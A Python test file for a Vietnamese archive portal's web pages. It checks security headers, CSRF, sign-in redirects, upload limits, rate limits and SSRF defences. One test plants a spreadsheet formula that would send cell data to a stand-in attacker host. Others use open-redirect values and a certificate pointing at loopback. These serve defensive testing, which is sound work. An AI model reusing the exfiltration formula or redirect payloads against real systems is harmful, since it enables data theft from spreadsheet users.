"""The portal's pages over HTTP (without a browser): security headers on every page, sign-in required where a page
shows personal data and the way back after it, CSRF on every form, no redirect off the site, a first password changed
before work, uploads limited in size and kind."""

from __future__ import annotations

import io
import re
from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from context.services import Services, open_services
from context.settings import load_settings
from domain.actor import Actor
from portal.api import create_app
from service.accounts import add_user

PASSWORD = "một mật khẩu đủ dài"
PAGES = ["/tiep-nhan", "/ra-soat", "/luu-tru", "/tien-do", "/cong-dan"]
FORMS = ["/tiep-nhan", "/tiep-nhan/ghi-nhan", "/tiep-nhan/phieu", "/luu-tru/bagit", "/tien-do/lo",
         "/luu-tru/tieu-huy/20261206-abcd", "/dang-xuat", "/doi-mat-khau"]


@pytest.fixture
def portal(services: Services) -> TestClient:
    data_dir = services.settings.data_dir
    (data_dir / "settings.toml").write_text("[auth]\ncookie_secure = false\n[limits]\nmax_file_mb = 1\n",
                                            encoding="utf-8")
    services = open_services(load_settings(data_dir))  # with the settings just written
    admin = Actor("admin.01", "console")
    add_user(services, admin, "tiep.nhan", "Nguyễn Thị Tiếp Nhận", "clerk", PASSWORD)
    add_user(services, admin, "moi.vao", "Trần Văn Mới", "clerk")  # a first password, to change
    add_user(services, admin, "luu.tru", "Lê Thị Lưu Trữ", "archivist", PASSWORD)
    return TestClient(create_app(services))


def form_token(page: str) -> str:
    found = re.search(r'name="(?:form_token|csrf)" value="([^"]+)"', page)
    assert found, page[:300]
    return found.group(1)


def sign_in(client: TestClient, username: str, password: str = PASSWORD, next_url: str = "/") -> object:
    token = form_token(client.get(f"/dang-nhap?next={next_url}").text)
    return client.post("/dang-nhap", data={"username": username, "password": password, "next": next_url,
                                           "form_token": token}, follow_redirects=False)


def test_every_page_carries_its_security_headers(portal: TestClient) -> None:
    sign_in(portal, "tiep.nhan")
    for path in ["/dang-nhap", "/xac-minh", "/tiep-nhan", "/luu-tru"]:
        page = portal.get(path)
        assert page.headers["content-type"].startswith("text/html"), path
        csp = page.headers["content-security-policy"]
        assert "default-src 'self'" in csp and "frame-ancestors 'none'" in csp and "script-src 'self'" in csp
        assert "unsafe-inline" not in csp
        assert page.headers["x-content-type-options"] == "nosniff" and page.headers["x-frame-options"] == "DENY"
        assert 'lang="vi"' in page.text


@pytest.mark.parametrize("path", PAGES)
def test_a_page_with_personal_data_sends_a_stranger_to_sign_in_and_back(portal: TestClient, path: str) -> None:
    answer = portal.get(path, follow_redirects=False)
    assert (answer.status_code, answer.headers["location"]) == (303, f"/dang-nhap?next={path}")


def test_signing_in_goes_back_to_the_page_asked_for_and_never_off_the_site(portal: TestClient) -> None:
    assert sign_in(portal, "tiep.nhan", next_url="/tiep-nhan").headers["location"] == "/tiep-nhan"  # type: ignore[attr-defined]
    portal.cookies.clear()
    for elsewhere in ("//evil.example/", "https://evil.example/", "/\\evil.example"):
        assert sign_in(portal, "tiep.nhan", next_url=elsewhere).headers["location"] == "/tiep-nhan"  # type: ignore[attr-defined]
        portal.cookies.clear()
    wrong = sign_in(portal, "tiep.nhan", "sai mật khẩu")
    assert wrong.status_code == 401 and "không đúng" in wrong.text  # type: ignore[attr-defined]


def test_the_sign_in_form_and_every_form_after_it_need_their_token(portal: TestClient) -> None:
    portal.get("/dang-nhap")
    forged = portal.post("/dang-nhap", data={"username": "tiep.nhan", "password": PASSWORD}, follow_redirects=False)
    assert forged.status_code == 403 and "session" not in forged.headers.get("set-cookie", "")
    sign_in(portal, "tiep.nhan")
    for path in FORMS:
        refused = portal.post(path, data={"csrf": "not-the-token"}, follow_redirects=False)
        assert refused.status_code == 403, path
    assert portal.get("/tiep-nhan").status_code == 200  # still signed in: nothing was done


def test_a_first_password_is_changed_before_any_page(portal: TestClient, services: Services) -> None:
    from service.accounts import reset_user

    first = reset_user(services, Actor("admin.01", "console"), "moi.vao")
    assert sign_in(portal, "moi.vao", first).status_code == 303  # type: ignore[attr-defined]
    answer = portal.get("/tiep-nhan", follow_redirects=False)
    assert (answer.status_code, answer.headers["location"]) == (303, "/doi-mat-khau")
    change = portal.get("/doi-mat-khau")
    moved = portal.post("/doi-mat-khau", data={"csrf": form_token(change.text), "old_password": first,
                                               "new_password": "mật khẩu mới của tôi", "again": "mật khẩu mới của tôi"},
                        follow_redirects=False)
    assert (moved.status_code, moved.headers["location"]) == (303, "/tiep-nhan")
    assert portal.get("/tiep-nhan").status_code == 200


def test_an_upload_to_verify_is_limited_in_size_and_kind_before_it_is_read(portal: TestClient) -> None:
    token = form_token(portal.get("/xac-minh").text)
    big = portal.post("/xac-minh", data={"form_token": token}, files={"tep": ("to.pdf", b"%PDF-1.7" + b"0" * 2**21)})
    assert big.status_code == 413 and "lớn hơn giới hạn 1 MB" in big.text
    token = form_token(portal.get("/xac-minh").text)
    image = portal.post("/xac-minh", data={"form_token": token}, files={"tep": ("anh.pdf", b"\x89PNG\r\n\x1a\n....")})
    assert image.status_code == 400 and "không phải PDF" in image.text
    token = form_token(image.text)
    empty = portal.post("/xac-minh", data={"form_token": token}, files={"tep": ("rong.pdf", b"")})
    assert empty.status_code == 400 and "rỗng" in empty.text


def test_the_administrator_sees_accounts_and_removes_a_learned_label(portal: TestClient, services: Services) -> None:
    from pipeline.learned_labels import LearnedLabel, save_learned
    from service.labels import list_learned

    save_learned(services.settings, [LearnedLabel("ab12cd34", "tinh_trang_hon_nhan", "name", "Người được xác nhận",
                                                  "subject", "x-KQ1", "ra.soat", "2026-12-06T10:00:00+00:00")])
    add_user(services, Actor("admin.01", "console"), "quan.tri", "Quản Trị Viên", "admin", PASSWORD)
    assert sign_in(portal, "quan.tri").headers["location"] == "/tai-khoan"  # type: ignore[attr-defined]
    page = portal.get("/tai-khoan")
    assert "tiep.nhan" in page.text and "CHỜ ĐỔI MẬT KHẨU" in page.text and "«Người được xác nhận»" in page.text
    removed = portal.post("/tai-khoan/nhan/ab12cd34", data={"csrf": form_token(page.text)}, follow_redirects=False)
    assert removed.status_code == 303
    assert list_learned(services, Actor("admin.01", "console")) == []


def test_an_address_no_page_answers_is_a_page_in_vietnamese_and_the_api_stays_json(portal: TestClient) -> None:
    missing = portal.get("/khong-co-trang-nay")
    assert missing.status_code == 404 and "Không có trang này" in missing.text
    assert missing.headers["content-security-policy"]
    assert portal.get("/v1/khong-co").json() == {"detail": "Not Found"}


def test_the_qr_codes_page_shows_the_record_masked_and_a_copy_of_another_record_is_refused_throughout(
        portal: TestClient, services: Services) -> None:
    from archive.base import SIGNED_PDF

    records = sorted(services.archive.manifests(), key=lambda m: m.files[SIGNED_PDF].size)
    one, other = records[0], records[1]
    landing = portal.get(f"/xac-minh/{one.result_code}?tthc={one.procedure_code}")
    assert landing.status_code == 200
    assert one.classification.type_name and one.classification.type_name in landing.text
    named = [p.name for p in one.persons if p.name]
    assert named and not any(name in landing.text for name in named)  # masked, never whole
    assert any(f"{name.split()[0].capitalize()} {name.split()[1][0]}…" in landing.text for name in named)
    assert "khác với hồ sơ" not in landing.text
    altered = portal.get(f"/xac-minh/{one.result_code}?v=1&tthc={one.procedure_code}&nc=19990101")
    assert "Ngày cấp trong mã QR (01/01/1999) khác với hồ sơ" in altered.text  # a QR code edited by hand
    assert portal.get("/xac-minh/000.00.00.H49-200101-0001-KQ1").status_code == 404  # never issued here
    assert "không có trong kho" in portal.get("/xac-minh/000.00.00.H49-200101-0001-KQ1").text
    # The other record's genuine copy, uploaded from this record's page (the form carries this record's code).
    landing = portal.get(f"/xac-minh/{one.result_code}")
    upload = portal.post("/xac-minh", data={"form_token": form_token(landing.text), "ma": one.result_code},
                         files={"tep": ("ban-sao.pdf", services.archive.read(other, SIGNED_PDF))})
    assert upload.status_code == 200
    assert "KHÔNG HỢP LỆ" in upload.text and "Kết luận: HỢP LỆ" not in upload.text  # one verdict, everywhere
    assert f"không phải bản sao của hồ sơ {one.result_code}" in upload.text


@pytest.mark.parametrize("path", ["/xac-minh/.x", "/xac-minh/a%00b", "/v1/records/.x", "/v1/records/a%00b",
                                  "/xac-minh/" + "9" * 5000])
def test_a_code_no_record_could_have_is_not_found_not_a_server_error(portal: TestClient, path: str) -> None:
    answer = portal.get(path)
    assert answer.status_code in (401, 404), (answer.status_code, answer.text[:200])
    sign_in(portal, "tiep.nhan")  # and signed in, past the sign-in check
    answer = portal.get(path, params={"purpose": "Kiểm thử"})
    assert answer.status_code in (400, 404), (answer.status_code, answer.text[:200])


def test_a_value_that_would_be_a_spreadsheet_formula_is_exported_as_text(portal: TestClient,
                                                                         services: Services) -> None:
    import csv
    import io

    from service.corrections import Changes, correct_record

    code = next(m.result_code for m in services.archive.manifests())
    formula = '=HYPERLINK("http://attacker.example/?x="&A1,"Bấm vào đây")'
    correct_record(services, Actor("ra.soat", "reviewer", "Rà Soát"), code, Changes(fields={"issuer": formula}),
                   "Kiểm thử xuất danh mục")
    sign_in(portal, "luu.tru")
    rows = list(csv.reader(io.StringIO(portal.get("/luu-tru/danh-muc.csv").text.lstrip("\ufeff"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + formula in cells and formula not in cells


def test_a_reviewers_form_cannot_make_the_server_loop_for_ever(portal: TestClient, services: Services) -> None:
    import time

    add_user(services, Actor("admin.01", "console"), "ra.soat", "Lê Văn Rà", "reviewer", PASSWORD)
    sign_in(portal, "ra.soat")
    code = next(m.result_code for m in services.archive.manifests())
    token = form_token(portal.get(f"/ra-soat/{code}").text)
    started = time.monotonic()
    answer = portal.post(f"/ra-soat/{code}", data={"csrf": token, "so_nguoi": "3000000", "ly_do": "x"})
    assert time.monotonic() - started < 5  # was 90 s of the event loop, every other request waiting
    assert answer.status_code == 400 and "Số dòng người" in answer.text
    assert services.archive.manifest(code).version == 1  # type: ignore[union-attr]  # nothing written


def test_an_uploaded_copy_cannot_make_the_server_fetch_an_address_of_its_choosing(portal: TestClient,
                                                                                  tmp_path: Path) -> None:
    """A certificate names where its issuer, CRL and OCSP answers are: for a file from outside, the server must not go
    there (it could be any host the server reaches, loopback and private ranges included)."""
    import http.server
    import threading
    from datetime import UTC, datetime, timedelta

    from cryptography import x509
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import ec
    from cryptography.x509.oid import AuthorityInformationAccessOID, NameOID
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
    from pyhanko.sign import signers
    from pyhanko.sign.signers.pdf_signer import PdfSignatureMetadata, PdfSigner

    from tests.conftest import free_port
    from tests.signing.conftest import blank_pdf

    asked: list[str] = []

    class Recorder(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(404)
            self.end_headers()

        do_POST = do_GET

        def log_message(self, *args: object) -> None:
            pass

    port = free_port()
    server = http.server.HTTPServer(("127.0.0.1", port), Recorder)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        url = f"http://127.0.0.1:{port}"
        issuer_key, key = ec.generate_private_key(ec.SECP256R1()), ec.generate_private_key(ec.SECP256R1())
        now = datetime.now(UTC)
        name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "Kẻ gian")])
        cert = (x509.CertificateBuilder().subject_name(name)
                .issuer_name(x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "CA tự dựng")]))
                .public_key(key.public_key()).serial_number(x509.random_serial_number())
                .not_valid_before(now - timedelta(days=1)).not_valid_after(now + timedelta(days=30))
                .add_extension(x509.AuthorityInformationAccess([
                    x509.AccessDescription(AuthorityInformationAccessOID.CA_ISSUERS,
                                           x509.UniformResourceIdentifier(f"{url}/issuer.crt")),
                    x509.AccessDescription(AuthorityInformationAccessOID.OCSP,
                                           x509.UniformResourceIdentifier(f"{url}/ocsp"))]), critical=False)
                .add_extension(x509.CRLDistributionPoints([x509.DistributionPoint(
                    [x509.UniformResourceIdentifier(f"{url}/crl")], None, None, None)]), critical=False)
                .sign(issuer_key, hashes.SHA256()))
        (tmp_path / "k.pem").write_bytes(key.private_bytes(serialization.Encoding.PEM,
                                                           serialization.PrivateFormat.PKCS8,
                                                           serialization.NoEncryption()))
        (tmp_path / "c.pem").write_bytes(cert.public_bytes(serialization.Encoding.PEM))
        signer = signers.SimpleSigner.load(str(tmp_path / "k.pem"), str(tmp_path / "c.pem"))
        out = io.BytesIO()
        PdfSigner(PdfSignatureMetadata(field_name="SohoaAgency-x"), signer=signer).sign_pdf(
            IncrementalPdfFileWriter(io.BytesIO(blank_pdf())), output=out)
        answer = portal.post("/xac-minh", data={"form_token": form_token(portal.get("/xac-minh").text)},
                             files={"tep": ("ban-sao.pdf", out.getvalue())})
        assert answer.status_code == 200 and "KHÔNG HỢP LỆ" in answer.text
        assert asked == [], asked
    finally:
        server.shutdown()


@pytest.mark.parametrize(("path", "limit_mb"), [("/xac-minh", 1), ("/dang-nhap", 0), ("/v1/auth/login", 0)])
def test_a_body_sent_in_chunks_is_refused_once_past_its_routes_limit_not_after(portal: TestClient, path: str,
                                                                              limit_mb: int) -> None:
    """A chunked upload declares no size: it is counted as it arrives and refused past the limit (1 MB here for a
    copy; 512 KB for any form or JSON), long before its 64 MB are sent."""
    sent = 0

    json = path.startswith("/v1/")
    head = b'{"username": "' if json else (b'--x\r\nContent-Disposition: form-data; name="tep"; filename="a.pdf"\r\n'
                                         b"Content-Type: application/pdf\r\n\r\n")

    def body() -> object:
        nonlocal sent
        yield head
        for _ in range(64):
            sent += 1
            yield b"0" * 2**20

    kind = "application/json" if json else "multipart/form-data; boundary=x"
    answer = portal.post(path, content=body(), headers={"Content-Type": kind})
    assert answer.status_code == 413 and "lớn hơn giới hạn" in answer.text


def test_a_real_server_stops_reading_a_chunked_upload_past_its_limit(services: Services) -> None:
    """Over a socket, against uvicorn: the client can push little more than the limit and the socket's buffers
    before the server has answered 413 and closed (before, all 400 MB were received and spooled to disk)."""
    import http.client
    import threading
    import time

    import uvicorn

    from tests.conftest import free_port

    (services.settings.data_dir / "settings.toml").write_text("[limits]\nmax_file_mb = 1\n", encoding="utf-8")
    port = free_port()
    server = uvicorn.Server(uvicorn.Config(create_app(open_services(load_settings(services.settings.data_dir))),
                                           host="127.0.0.1", port=port, log_level="warning"))
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    while not server.started:
        time.sleep(0.05)
    sent = 0

    def body() -> object:
        nonlocal sent
        yield (b'--x\r\nContent-Disposition: form-data; name="tep"; filename="a.pdf"\r\n'
               b"Content-Type: application/pdf\r\n\r\n")
        for _ in range(400):
            sent += 1
            yield b"0" * 2**20

    try:
        conn = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
        try:
            conn.request("POST", "/xac-minh", body=body(), encode_chunked=True,  # type: ignore[arg-type]
                         headers={"Content-Type": "multipart/form-data; boundary=x"})
            status = conn.getresponse().status
        except (BrokenPipeError, ConnectionResetError):
            status = 413  # the server answered and closed while the client was still sending
        assert status == 413
        assert sent < 64, sent  # MB pushed before the server stopped reading: the limit and the buffers
    finally:
        server.should_exit = True
        thread.join(timeout=10)


def test_anonymous_verification_is_limited_per_address(services: Services) -> None:
    """Each verification costs seconds and shows a record's masked facts: a visitor gets lookups_per_minute of them,
    then a 429 page in words; the QR code's page counts the same way."""
    from archive.base import SIGNED_PDF

    data_dir = services.settings.data_dir
    (data_dir / "settings.toml").write_text("[auth]\ncookie_secure = false\nlookups_per_minute = 2\n",
                                            encoding="utf-8")
    client = TestClient(create_app(open_services(load_settings(data_dir))))
    manifest = next(iter(services.archive.manifests()))
    copy = services.archive.read(manifest, SIGNED_PDF)
    answers = []
    for _ in range(3):
        token = form_token(client.get("/xac-minh").text)
        answers.append(client.post("/xac-minh", data={"form_token": token}, files={"tep": ("ban-sao.pdf", copy)}))
    assert [a.status_code for a in answers] == [200, 200, 429]
    assert "giới hạn" in answers[2].text
    assert client.get(f"/xac-minh/{manifest.result_code}").status_code == 429
